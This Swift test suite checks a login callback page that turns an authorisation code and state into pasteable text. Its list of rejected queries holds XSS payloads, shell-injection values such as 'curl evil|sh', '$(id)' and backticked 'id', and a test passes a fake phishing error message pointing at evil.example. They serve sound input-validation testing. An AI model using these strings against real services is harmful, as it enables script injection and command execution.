@testable import CommandLineAPI
import GatewayTerms
import Testing

/// `/cli/callback`: a query that anybody can write, and the page that it gives.
@Suite struct LoginCallbackTests {
    static func page(_ query: String) -> CommandLineAnswer { Scene.service().get("/callback", query: query) }

    @Test("A code and its state become one text to paste", arguments: [
        ("code=abc&state=xyz", "abc#xyz"), ("state=xyz&code=abc", "abc#xyz"), ("code=4%2F0AX4-_.~&state=s", "4/0AX4-_.~#s"),
        ("code=a%2Bb%3D&state=s", "a+b=#s"), ("code=abc&state=xyz&session_state=1&iss=https%3A%2F%2Fx", "abc#xyz"), ("&&code=abc&&state=xyz&", "abc#xyz"),
        ("code=abc&state=xyz&other=<script>", "abc#xyz"), ("c%6fde=abc&st%61te=xyz", "abc#xyz"), ("code=a=b&state=s", "a=b#s"),
    ])
    func showsCode(query: String, text: String) {
        #expect(LoginCallback(query: Array(query.utf8)) == .code(text))
        let answer = Self.page(query)
        #expect(answer.status == 200)
        #expect(answer.text.contains("<code>\(text)</code>"))
        #expect(!answer.text.contains("script"))
    }

    static let hostile = [
        "code=<script>alert(1)</script>&state=s", "code=%3Cscript%3Ealert(1)%3C/script%3E&state=s", "code=abc&state=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "code=a%20b&state=s", "code=a+b&state=s", "code=curl%20evil|sh&state=s", "code=$(id)&state=s", "code=`id`&state=s", "code=a;b&state=s", "code=a%26b&state=s",
        "code=a%23b&state=s", "code=a%0Ab&state=s", "code=a%00b&state=s", "code=%E2%80%AEabc&state=s", "code=%FF&state=s", "code=ä&state=s", "code='&state=s",
        "code=&state=s", "code=abc", "code=abc&state=", "state=s", "code&state", "code=a&code=b&state=s", "code=a&state=s&state=s", "code=a&state=s&%63ode=b",
        "code=%&state=s", "code=%4&state=s", "code=%zz&state=s", "code=abc&state=%", "error=access_denied&code=abc&state=s", "error=a&error=b",
        "code=" + String(repeating: "a", count: 4097) + "&state=s", "code=a&state=" + String(repeating: "a", count: 257), "x", "=", "&", "code=abc?state=s",
        String(repeating: "a&", count: 64) + "code=abc&state=s",
    ]

    @Test("Whatever is not plainly a code and its state gives one and the same page, which repeats nothing", arguments: hostile)
    func refuses(query: String) {
        #expect(LoginCallback(query: Array(query.utf8)) == .unreadable)
        let answer = Self.page(query)
        #expect(answer.status == 400)
        #expect(answer == Self.page("code=damaged!"))
    }

    @Test("Bytes that are no text are no code")
    func refusesBytes() {
        for byte in UInt8.min...UInt8.max {
            let isPlain = byte < 128 && (Character(UnicodeScalar(byte)).isLetter || Character(UnicodeScalar(byte)).isNumber || "-._~/=:*".utf8.contains(byte))
            let result = LoginCallback(query: Array("code=a".utf8) + [byte] + Array("b&state=s".utf8))
            if byte == UInt8(ascii: "&") { continue }
            if isPlain { #expect(result != .unreadable) } else { #expect(result == .unreadable) }
        }
    }

    @Test("The longest code and state that the extension takes are shown")
    func acceptsLongest() {
        let code = String(repeating: "c", count: LoginCallback.codeMax), state = String(repeating: "s", count: LoginCallback.stateMax)
        #expect(LoginCallback(query: Array("code=\(code)&state=\(state)".utf8)) == .code("\(code)#\(state)"))
    }

    @Test("Each error of the provider has its sentence", arguments: ProviderError.allCases.filter { $0 != .unknown })
    func explains(error: ProviderError) {
        let query = "error=\(error.rawValue)&state=s&error_description=Call+0800+EVIL&error_uri=https://evil.example"
        let answer = Self.page(query)
        #expect(answer.status == 400)
        #expect(answer.text.contains("<p>\(HTMLText.escaped(error.sentence))</p>"))
        #expect(!answer.text.contains("EVIL") && !answer.text.contains("evil"))
    }

    @Test("An error that is not on the list is never repeated", arguments: [
        "error=", "error=x", "error=Access_Denied", "error=%3Cb%3E", "error=Your+account+is+locked,+call+0800", "error=access_denied%00", "error=access_denied+",
    ])
    func hidesUnknownErrors(query: String) {
        #expect(LoginCallback(query: Array(query.utf8)) == .refused(.unknown))
        #expect(Self.page(query) == Self.page("error=something_else"))
    }

    @Test("Opened by hand, it says what it is for")
    func explainsItself() {
        #expect(LoginCallback(query: []) == .empty)
        #expect(Self.page("").text.contains("metaflow-gateway-login https://alpha.example.com --no-browser"))
    }

    @Test("No answer may be kept or tell another site its address", arguments: ["", "code=abc&state=s", "error=access_denied", "code=!"])
    func isPrivate(query: String) {
        let answer = Scene.service().get("/callback", query: query, ifNoneMatch: "*")
        #expect((answer.isCacheable, answer.etag) == (false, nil))
        #expect(answer.status != 304)
        #expect(answer.value(of: "referrer-policy") == "no-referrer")
    }
}
